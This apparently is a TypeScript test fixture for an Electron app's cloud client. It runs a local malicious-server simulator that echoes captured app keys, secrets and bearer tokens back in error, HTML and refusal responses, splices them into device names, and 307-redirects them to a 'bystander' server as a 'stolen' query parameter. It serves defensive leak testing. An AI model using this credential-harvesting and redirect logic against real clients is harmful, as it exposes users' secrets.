import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { z } from 'zod';
import type { Standin } from '../../../electron/standin/index.ts';

/**
 * What the cloud does with what it was sent: `refuse`, `fail`, `html` and `say` quote the request's
 * headers and body in an answer of 401, 500, a web page and a refusal; `redirect` sends them along to
 * another server; `names` calls devices, accounts and users by them.
 */
export type Trick = 'none' | 'refuse' | 'fail' | 'html' | 'say' | 'redirect' | 'names';

type Received = { path: string; headers: string; body: string };

export type HostileCloud = {
  /** The clouds as before, with addresses that lead through this server. */
  cloud: Standin;
  port: number;
  received: Received[];
  /** Tokens that logins were answered with. */
  tokens: string[];
  play(trick: Trick): void;
  close(): Promise<void>;
};

const credentials = ['appKey', 'appSecret', 'appSecretKey', 'client_id'];
const nameKeys = new Set(['name', 'groupName', 'account_name', 'reason', 'msg', 'message']);
const loginAnswer = z.object({ data: z.object({ accesstoken: z.string() }) });

/** A cloud that has every right to know the secrets, and tells them to whoever listens. */
export async function startHostileCloud(cloud: Standin, elsewhere: string): Promise<HostileCloud> {
  let trick: Trick = 'none';
  const received: Received[] = [];
  const tokens: string[] = [];
  const known = new Set<string>();

  function learn({ headers, body }: Received): void {
    const authorization: unknown = JSON.parse(headers).authorization;
    if (typeof authorization === 'string') known.add(authorization.replace(/^Bearer /, ''));
    const sent: Record<string, unknown> = body === '' ? {} : JSON.parse(body);
    for (const name of credentials) {
      const value = sent[name];
      if (typeof value === 'string') known.add(value);
    }
  }

  /** Puts a secret before every name in an answer, each in turn, plain and as in an address. */
  function named(answer: string): string {
    let turn = 0;
    const all = [...known].flatMap((secret) => [secret, encodeURIComponent(secret)]);
    return JSON.stringify(
      JSON.parse(answer, (key, value: unknown) => {
        if (typeof value !== 'string' || !nameKeys.has(key)) return value;
        turn += 1;
        return `${all[turn % all.length]} ${value}`;
      }),
    );
  }

  async function answer(request: Received, method: string, res: ServerResponse): Promise<void> {
    const quoted = `${request.headers} ${request.body} ${[...known].join(' ')}`;
    const json = { 'content-type': 'application/json' };
    switch (trick) {
      case 'refuse':
        res.writeHead(401, json).end(JSON.stringify({ success: false, message: quoted }));
        return;
      case 'fail':
        res.writeHead(500, json).end(JSON.stringify({ success: false, code: 500, msg: quoted }));
        return;
      case 'html':
        res.writeHead(200, { 'content-type': 'text/html' }).end(`<html><p>${quoted}</p></html>`);
        return;
      case 'say':
        res
          .writeHead(200, json)
          .end(JSON.stringify({ success: false, code: quoted, message: quoted, msg: quoted }));
        return;
      case 'redirect':
        res
          .writeHead(307, { location: `${elsewhere}/?stolen=${encodeURIComponent(quoted)}` })
          .end();
        return;
    }
    const { authorization, 'content-type': type } = JSON.parse(request.headers);
    const reply = await fetch(cloud.origin + request.path, {
      method,
      headers: {
        ...(authorization ? { authorization } : {}),
        ...(type ? { 'content-type': type } : {}),
      },
      body: method === 'POST' ? request.body : null,
    });
    const text = await reply.text();
    const login = request.path.includes('/login') ? loginAnswer.safeParse(JSON.parse(text)) : null;
    if (login?.success) tokens.push(login.data.data.accesstoken);
    res.writeHead(reply.status, { 'content-type': reply.headers.get('content-type') ?? '' });
    res.end(trick === 'names' ? named(text) : text);
  }

  const server = createServer((req, res) => {
    void bodyOf(req).then((body) => {
      const request = { path: req.url ?? '/', headers: JSON.stringify(req.headers), body };
      received.push(request);
      learn(request);
      return answer(request, req.method ?? 'GET', res);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const through = (url: string) => url.replace(cloud.origin, `http://127.0.0.1:${port}`);
  const { juyingAuth, juyingApi, xmp } = cloud.urls;
  return {
    cloud: {
      ...cloud,
      urls: {
        juyingAuth: through(juyingAuth),
        juyingApi: through(juyingApi),
        xmp: through(xmp),
      },
    },
    port,
    received,
    tokens,
    play(next) {
      trick = next;
    },
    close: () => closeServer(server),
  };
}

/** A server that nobody has a reason to speak to. */
export async function startBystander() {
  const requests: string[] = [];
  const server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
    res.end('thank you');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, requests, close: () => closeServer(server) };
}

function closeServer(server: ReturnType<typeof createServer>): Promise<void> {
  const closed = new Promise<void>((resolve) => server.close(() => resolve()));
  server.closeAllConnections();
  return closed;
}

async function bodyOf(req: IncomingMessage): Promise<string> {
  const pieces: Buffer[] = [];
  for await (const piece of req) pieces.push(Buffer.from(piece));
  return Buffer.concat(pieces).toString('utf8');
}
